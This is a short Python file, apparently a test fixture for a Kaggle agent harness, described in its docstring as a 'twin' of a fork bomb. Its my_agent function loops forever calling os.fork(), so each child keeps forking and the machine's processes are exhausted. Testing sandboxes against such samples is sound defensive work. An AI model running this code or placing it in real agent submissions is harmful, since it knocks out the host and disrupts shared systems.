"""Kaggle twin of fork_bomb: the agent forks without end (every child forks too)."""

import os


def spread():
    os.fork()


def my_agent(observation, configuration):
    while True:
        spread()
